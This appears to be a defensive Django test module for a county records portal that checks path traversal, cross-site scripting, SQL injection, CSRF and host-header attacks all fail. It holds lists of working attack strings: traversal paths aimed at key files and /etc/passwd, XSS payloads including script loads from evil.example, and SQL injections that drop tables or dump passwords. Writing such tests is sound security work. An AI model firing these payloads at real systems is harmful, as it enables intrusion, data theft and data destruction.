"""What an attacker types into addresses, names and forms: other people's files, scripts, SQL, forged forms. None of it works."""

import itertools
import re
from typing import Any
from urllib.parse import quote

from tests.portal.conftest import DRAFT, LAST, OUT, County
from tests.portal.files import contacts
from tests.portal.test_handing_a_file_over import SEND, file
from tests.portal.test_who_may_open_what import PAGES, _names

MINE = "sheriff.law_enforcement_contacts.2025-Q4.001"
_TARGETS = ("safecount.toml", "confidential/keys/store.key", "portal/secret.key", "ledger.jsonl", "receipts/sheriff/" + MINE + ".json")
_STEPS = ("../", "..%2f", "%2e%2e/", "%252e%252e%252f", "....//", "..\\", "..%5c", "%c0%ae%c0%ae/", "/", "./../", "x/../../", "\u2025/")
_PLACES = (
    f"/published/{OUT}/",
    f"/steward/drafts/{DRAFT}/files/",
    "/published/",
    "/agency/signed/",
    "/agency/receipts/",
    "/agency/blank/",
    "/static/",
)
TRAVERSALS = [place + step * 4 + target for place, step, target in itertools.product(_PLACES, _STEPS, _TARGETS[:2])] + [
    f"/published/{OUT}/{name}" for name in (*_TARGETS, "..", ".", "", "%00", "manifest.json/", "cells.csv%00.html", "/etc/passwd")
]
_HARM = "<img src=x onerror=hurt(1)>"
SCRIPTS = [
    _HARM,
    "<script>hurt(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>hurt(1)</script>',
    "'><script>hurt(1)</script>",
    "</title><script>hurt(1)</script>",
    "</textarea><script>hurt(1)</script>",
    "</pre><script>hurt(1)</script>",
    "<svg onload=hurt(1)>",
    "<svg/onload=hurt(1)>",
    "<svg><script>hurt(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hurt(1)>",
    "<iframe src=javascript:hurt(1)>",
    "<iframe srcdoc='<script>hurt(1)</script>'>",
    "<object data=javascript:hurt(1)>",
    "<embed src=javascript:hurt(1)>",
    "<a href=javascript:hurt(1)>x</a>",
    "<a href='java&#10;script:hurt(1)'>x</a>",
    "<body onload=hurt(1)>",
    "<input autofocus onfocus=hurt(1)>",
    "<select autofocus onfocus=hurt(1)>",
    "<details open ontoggle=hurt(1)>",
    "<video><source onerror=hurt(1)>",
    "<audio src=x onerror=hurt(1)>",
    "<marquee onstart=hurt(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:hurt(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>body{background:url(javascript:hurt(1))}</style>",
    "<form action=//evil.example><button>x",
    "<button formaction=javascript:hurt(1)>x",
    "<!--><script>hurt(1)</script>-->",
    "<![CDATA[><script>hurt(1)</script>]]>",
    "<?xml version='1.0'?><script>hurt(1)</script>",
    '" onmouseover="hurt(1)',
    "' onmouseover='hurt(1)",
    '" autofocus onfocus=hurt(1) x="',
    '"`onmouseover=hurt(1)`',
    "{{ 7|add:7 }}<b>",
    "{% debug %}<b>",
    "{% include 'portal/books.html' %}<b>",
    "${7*7}<b>",
    "#{7*7}<b>",
    "\u003cscript\u003ehurt(1)\u003c/script\u003e",
    "\\x3cscript\\x3ehurt(1)<b>",
    "&lt;script&gt;hurt(1)<b>",
    "%3Cscript%3Ehurt(1)%3C/script%3E<b>",
    "<scr<script>ipt>hurt(1)</scr</script>ipt>",
    "<ScRiPt>hurt(1)</sCrIpT>",
    "<script\t>hurt(1)</script\t>",
    "<script/x>hurt(1)</script>",
    "<img src=`x`onerror=hurt(1)>",
    "<img/src=x/onerror=hurt(1)>",
    "<img src=x:x onerror=hurt(1)//",
    "<<script>hurt(1)//<</script>",
    "\u2028<script>hurt(1)</script>",
    "\uff1cscript\uff1ehurt(1)<b>",
    "<noscript><p title='</noscript><img src=x onerror=hurt(1)>'>",
    "<xmp><script>hurt(1)</script></xmp>",
    "<table background=javascript:hurt(1)>",
    "javascript:hurt(1)//<b>",
    "data:text/html,<script>hurt(1)</script>",
]
SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE portal_person; --",
    "'; UPDATE portal_person SET role='steward'; --",
    "' UNION SELECT password FROM portal_person --",
    "1); DELETE FROM django_session; --",
    "%' AND 1=0 UNION ALL SELECT NULL--",
    "admin'/*",
    "\\'; SELECT 1; --",
    "' AND SLEEP(5) --",
    "'||(SELECT email FROM portal_person LIMIT 1)||'",
    "x'; ATTACH DATABASE 'evil.db' AS evil; --",
    "'; SELECT pg_sleep(5); --",
    "\x00' OR 1=1",
]
"""Typed where the portal asks its database."""


def _whole(answer: Any) -> str:
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    return body.decode(errors="replace")


def test_no_address_leads_out_of_what_a_page_hands_out(county: County, browser_of: Any) -> None:
    secrets = [(county.folder / name).read_bytes().decode()[:60] for name in _TARGETS]
    assert len(TRAVERSALS) >= 80
    steward, officer = browser_of("rita"), browser_of("sheriff")
    for path in TRAVERSALS:
        for browser in (officer,) if path.startswith("/agency") else (steward,):
            answer = browser.get(path)
            assert answer.status_code in (301, 302, 400, 403, 404), path
            body = _whole(answer)
            assert not any(secret in body for secret in secrets), path
    shelf = county.folder / "published" / OUT
    assert browser_of("member").get(f"/published/{OUT}/cells.csv").status_code == 200
    shelf.chmod(0o755)
    (shelf / "link.csv").symlink_to(county.folder / "safecount.toml")
    (shelf / "more.csv").write_text("laid here later", encoding="utf-8")
    for name in ("link.csv", "more.csv"):
        assert browser_of("member").get(f"/published/{OUT}/{name}").status_code == 404


def test_no_script_that_somebody_types_reaches_a_page(county: County, browser_of: Any, people: Any) -> None:
    """All of them at once into each place, and each by itself where it is looked at in another way."""
    from pipelines.portal.models import Invitation, Job, Person

    assert len(set(SCRIPTS)) >= 60
    every = " ".join(SCRIPTS)
    for number, harm in enumerate(SCRIPTS):
        Person.objects.create_user(f"x{number}@example.org", None, name=harm[:80], role="taskforce")
    job = Job.objects.create(person=people["rita"], what="run", about=LAST, ended_at="2026-01-20T00:00Z", code=1, said=every)
    people["member"].name = every
    people["member"].save()
    _, token = Invitation.make(email="x@example.org", name=every, role="taskforce")
    officer, steward, guest = browser_of("sheriff"), browser_of("rita"), browser_of(None)
    named = every.replace("/", "_").replace("\\", "_")
    seen = [
        guest.get(f"/invitation/{token}/"),
        guest.post("/account/login/", {"login": every, "password": every, "next": every}),
        guest.get("/account/login/", {"next": every}),
        guest.post("/account/password/reset/", {"email": every}),
        browser_of("member").get("/published/"),
        steward.get("/steward/people/"),
        steward.post("/steward/people/invite/", {"name": every, "email": every, "role": every, "agency": every, "steward": every}),
        steward.get(f"/steward/jobs/{job.pk}/"),
        steward.get("/steward/"),
        steward.get("/steward/books/"),
        steward.post(f"/steward/drafts/{DRAFT}/approve/", {"changes": every}),
        officer.post(SEND, {"act": "send", "file": file(b"", named)}),
        officer.post(SEND, {"act": every, "file": file(contacts(1), named)}, follow=True),
        officer.post(f"/agency/receipts/{MINE}/confirm/", {"reason-C701": every, "note-C701": every}),
        officer.post(f"/agency/receipts/{MINE}/retract/", {"reason": every}),
    ]
    for harm in SCRIPTS:
        seen += [steward.get("/steward/", {"quarter": harm}), guest.get("/" + quote(harm, safe=""))]
    for number, answer in enumerate(seen):
        body = _whole(answer)
        assert not [harm for harm in SCRIPTS if harm in body], number
        assert re.search("script-src '(none|self)';", answer.headers["Content-Security-Policy"])
    assert "&lt;svg onload=hurt(1)&gt;" in _whole(seen[5])  # they were there, as plain text


def test_no_sql_that_somebody_types_is_run(county: County, browser_of: Any, people: Any) -> None:
    from pipelines.portal.models import Person

    before = list(Person.objects.order_by("pk").values_list("email", "role", "password"))
    officer, steward, guest = browser_of("sheriff"), browser_of("rita"), browser_of(None)
    for harm in SQL:
        answers = [
            guest.post("/account/login/", {"login": harm, "password": harm}),
            guest.get(f"/invitation/{quote(harm, safe='')}/"),
            guest.post("/account/password/reset/", {"email": f"{harm}@example.org"}),
            steward.get("/steward/", {"quarter": harm}),
            steward.post("/steward/people/invite/", {"name": harm, "email": harm, "role": harm, "agency": harm, "steward": harm}),
            steward.post(f"/steward/people/{quote(harm, safe='')}/close/"),
            officer.get(f"/agency/sent/{quote(harm, safe='')}/"),
            officer.get(f"/agency/receipts/{quote(harm, safe='')}/"),
            officer.post(SEND, {"act": harm, "file": file(b"x", harm.replace("/", "_").replace("\x00", ""))}),
        ]
        assert {a.status_code for a in answers} <= {200, 302, 400, 404, 422}, harm
    assert list(Person.objects.order_by("pk").values_list("email", "role", "password")) == before


def test_a_form_from_elsewhere_is_refused_on_every_address(county: County, browser_of: Any) -> None:
    """Whoever lures a person to another page can send forms in their name; without our token they do nothing."""
    from django.urls import get_resolver

    tried = set()
    for who in ("sheriff", "rita", "member", None):
        browser = browser_of(who, enforce_csrf_checks=True)
        for name, rows in PAGES.items():
            for _, path, _ in rows:
                answer = browser.post(path, {"act": "send", "password": "x"})
                assert answer.status_code in (302, 403, 404, 405), path
                moved = answer.status_code == 302 and answer.headers["Location"].startswith("/account/")
                assert answer.status_code != 302 or moved or answer.headers["Location"] == "/", path
                tried.add(name)
    assert tried == _names(get_resolver().url_patterns)
    assert county.office.current("sheriff", county.office.quarters[15])["law_enforcement_contacts"].id == MINE


def test_every_answer_tells_the_browser_to_allow_nothing_else(browser_of: Any) -> None:
    """And our own pages hold no script, no style and no address of elsewhere."""
    for who in (None, "sheriff", "rita"):
        browser = browser_of(who)
        for name, rows in PAGES.items():
            method, path, _ = rows[0]
            answer = getattr(browser, method)(path)
            headers, policy = answer.headers, answer.headers["Content-Security-Policy"]
            assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy, path
            assert headers["X-Content-Type-Options"] == "nosniff" and headers["X-Frame-Options"] == "DENY"
            assert headers["Referrer-Policy"] == "same-origin" and headers["Cross-Origin-Opener-Policy"] == "same-origin"
            assert path.startswith("/static/") or "no-store" in headers["Cache-Control"], path
            assert "unsafe-inline" not in policy or "sandbox" in policy, path
            if name not in ("published_file", "draft_file", "receipt_file") and "html" in headers["Content-Type"]:
                body = answer.content.decode()
                body, scripts = re.subn(r'<script src="/static/\w+\.js" defer></script>', "", body)
                assert ("script-src 'self';" if scripts else "script-src 'none';") in policy, path
                assert not [bad for bad in ("<script", "<style", " style=", " onclick", "http://", "https://") if bad in body], path


def test_a_page_of_a_publication_is_shown_in_a_box(browser_of: Any) -> None:
    answer = browser_of("member").get(f"/published/{OUT}/dashboard.html")
    policy = answer.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-scripts") and "allow-same-origin" not in policy and "connect-src" not in policy


def test_an_unknown_host_is_not_answered(browser_of: Any) -> None:
    assert browser_of(None).get("/account/login/", headers={"host": "evil.example"}).status_code == 400


def test_no_upload_is_ever_handed_back(county: County, browser_of: Any) -> None:
    """Of all that an agency and a steward can open, nothing holds a row of what was sent."""
    token = contacts().decode().splitlines()[1].split(",")[0]
    for who in ("sheriff", "rita"):
        browser = browser_of(who)
        for path in {path for rows in PAGES.values() for _, path, _ in rows}:
            assert token not in _whole(browser.get(path)), path
